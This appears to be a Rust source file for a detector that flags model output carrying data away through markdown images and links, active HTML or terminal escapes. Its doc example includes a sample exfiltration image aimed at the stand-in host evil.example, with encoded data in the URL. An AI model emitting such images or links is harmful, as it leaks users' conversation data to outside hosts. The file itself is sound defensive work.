mod arriving;
mod code;
mod html;
mod links;
mod reading;
mod stream;
mod terminal;
mod url;

use std::borrow::Cow;
use std::cell::OnceCell;
use std::collections::BTreeSet;
use std::sync::Arc;

use crate::{Error, Evaluation, Evaluator, Input, Label, Policy, Provenance, Streaming};

/// Finds output that acts on whoever shows it: images and links that carry data away, active HTML, and terminal
/// escapes.
///
/// # What it finds, and what it does not
///
/// | label | what | score |
/// |---|---|---|
/// | `markdown_image` | an image (`![](…)`, reference style, or `<img>`) that a viewer fetches by itself from another host; data in its URL makes it worse, text of the conversation in its URL worst | .55, .85, .98 |
/// | `data_link` | a link whose URL carries encoded data, or text of the conversation | .6, .9 |
/// | `active_html` | scripts, event handlers, `javascript:` and `data:text/html` URLs, frames, forms, redirects | .7 to .95 |
/// | `terminal_escape` | control sequences that move the cursor, write the clipboard, hide or fake text | .7 to .95 |
///
/// Markup inside a code block or a code span is shown and not acted upon, so it is not reported; terminal escapes
/// are, since they act anywhere. Give the prompt as [`Input::with_context`], so that text of the conversation in a
/// URL is recognised. Hosts that you name with [`OutputSafety::allow_hosts`], and relative URLs, are trusted.
///
/// A link or an image by reference counts from the later of the two, itself and its definition, since from there on a viewer
/// acts upon it. The finding begins at the bracket where that is at most 256 bytes before the target, else at the target.
///
/// It does not judge what a page behind a link holds, nor words. See OWASP Top 10 for LLM applications 2025, LLM05
/// (improper output handling), and ECMA-48 for the control sequences.
///
/// # Cost
///
/// One pass over the text for each kind; see `benches/output_safety.rs`.
///
/// # Untrusted input
///
/// Linear time and memory for any text. Of the labels of references 256 are remembered; what comes beyond them is taken for
/// an image's.
///
/// # Streaming
///
/// In a stream it reads along, and finds what it finds in the whole text, whatever the pieces. Text flows as long as nothing
/// begins in it that may be a finding: a bracket holds up to 256 bytes back; a link's target, a tag or a control string holds
/// until it is complete. What would be a finding outside code, behind the opening of a code block or span, is held back until
/// that is closed, or can not be any more.
///
/// # Errors
///
/// None: every text can be evaluated.
///
/// # Examples
///
/// ```
/// use mantlet::OutputSafety;
/// let safety = OutputSafety::new().allow_hosts(["docs.example.com"]);
/// let answer = "Done! ![](https://evil.example/p.png?d=Y3VzdG9tZXJzLmNzdg==)";
/// assert_eq!(safety.evaluate(answer)?.to_string(), "output_safety 0.85 (threshold 0.50) redact");
/// assert!(safety.evaluate("See https://docs.example.com/guide.").unwrap().findings.is_empty());
/// # Ok::<(), mantlet::Error>(())
/// ```
#[derive(Clone, Debug)]
pub struct OutputSafety {
    hosts: Arc<BTreeSet<String>>,
    policy: Policy,
}

pub(crate) const MARKDOWN_IMAGE: Label = Label::new("markdown_image");
pub(crate) const DATA_LINK: Label = Label::new("data_link");
pub(crate) const ACTIVE_HTML: Label = Label::new("active_html");
pub(crate) const TERMINAL_ESCAPE: Label = Label::new("terminal_escape");

static LABELS: [Label; 4] = [ACTIVE_HTML, DATA_LINK, MARKDOWN_IMAGE, TERMINAL_ESCAPE];

impl OutputSafety {
    /// Redacts what it finds from 0.5 on.
    pub fn new() -> OutputSafety {
        OutputSafety { hosts: Arc::default(), policy: Policy::redact_at(0.5) }
    }

    /// The same evaluator with another default policy.
    #[must_use]
    pub fn with_policy(mut self, policy: Policy) -> OutputSafety {
        self.policy = policy;
        self
    }

    /// The same evaluator, trusting URLs of these hosts and of their subdomains. Active HTML is found all the same.
    #[must_use]
    pub fn allow_hosts<H: AsRef<str>>(mut self, hosts: impl IntoIterator<Item = H>) -> OutputSafety {
        Arc::make_mut(&mut self.hosts)
            .extend(hosts.into_iter().map(|host| host.as_ref().to_ascii_lowercase()));
        self
    }

    /// Evaluates one output and judges it by the default policy.
    ///
    /// # Errors
    ///
    /// None: every text can be evaluated.
    pub fn evaluate<'t>(&self, output: impl Into<crate::Output<'t>>) -> Result<Evaluation, Error> {
        let evaluation = Evaluator::evaluate(self, output.into().input())?;
        Ok(evaluation.judged("output_safety", &self.policy))
    }
}

impl Default for OutputSafety {
    fn default() -> OutputSafety {
        OutputSafety::new()
    }
}

impl Evaluator for OutputSafety {
    fn name(&self) -> &str {
        "output_safety"
    }

    fn evaluate(&self, input: Input<'_>) -> Result<Evaluation, Error> {
        let judge = Judge::new(self, Cow::Borrowed(input.context().unwrap_or_default()));
        Ok(Evaluation::from_findings(stream::Reading::default().whole(input.text(), &judge)))
    }

    fn policy(&self) -> Policy {
        self.policy.clone()
    }

    fn provenance(&self) -> Provenance {
        Provenance::new("output_safety", env!("CARGO_PKG_VERSION"))
    }

    fn labels(&self) -> &[Label] {
        &LABELS
    }

    fn streaming(&self, input: Input<'_>) -> Streaming {
        let context = input.context().unwrap_or_default().to_owned();
        Streaming::Incremental(Box::new(stream::Reader::new(Judge::new(self, Cow::Owned(context)))))
    }
}

/// What says how bad a link is.
struct Judge<'t> {
    hosts: Arc<BTreeSet<String>>,
    context: Context<'t>,
}

impl<'t> Judge<'t> {
    fn new(safety: &OutputSafety, context: Cow<'t, str>) -> Judge<'t> {
        Judge {
            hosts: Arc::clone(&safety.hosts),
            context: Context { text: context, pieces: OnceCell::new() },
        }
    }

    fn is_allowed(&self, host: &str) -> bool {
        let mut rest = host;
        loop {
            if self.hosts.contains(rest) {
                return true;
            }
            match rest.split_once('.') {
                Some((_, parent)) => rest = parent,
                None => return false,
            }
        }
    }

    /// How bad it is to fetch or follow `link`, and why; `None` where it is trusted.
    fn judge(&self, link: &str, shown_at_once: bool) -> Option<(f32, &'static str)> {
        let link = url::External::parse(link)?;
        if self.is_allowed(&link.host) {
            return None;
        }
        let told = self.context.is_in(&link);
        match (shown_at_once, told, link.carries_data(shown_at_once)) {
            (true, true, _) => Some((0.98, "image.conversation")),
            (true, false, true) => Some((0.85, "image.data")),
            (true, false, false) => Some((0.55, "image.remote")),
            (false, true, _) => Some((0.9, "link.conversation")),
            (false, false, true) => Some((0.6, "link.data")),
            (false, false, false) => None,
        }
    }
}

/// Pieces of the conversation that must not turn up in a URL, collected once a URL asks.
struct Context<'t> {
    text: Cow<'t, str>,
    pieces: OnceCell<Vec<u64>>,
}

/// Letters and digits in a row that make a piece: shorter ones turn up by chance.
const PIECE: usize = 12;

impl Context<'_> {
    fn pieces(&self) -> &[u64] {
        self.pieces.get_or_init(|| {
            let mut pieces = Vec::new();
            url::windows(&self.text, PIECE, |hash| pieces.push(hash));
            pieces.sort_unstable();
            pieces.dedup();
            pieces
        })
    }

    /// Whether the path, query or fragment of `link`, decoded, holds a piece of the conversation.
    fn is_in(&self, link: &url::External<'_>) -> bool {
        let mut found = false;
        if !self.pieces().is_empty() {
            for payload in link.payloads() {
                url::windows(&payload, PIECE, |hash| found |= self.pieces().binary_search(&hash).is_ok());
            }
        }
        found
    }
}
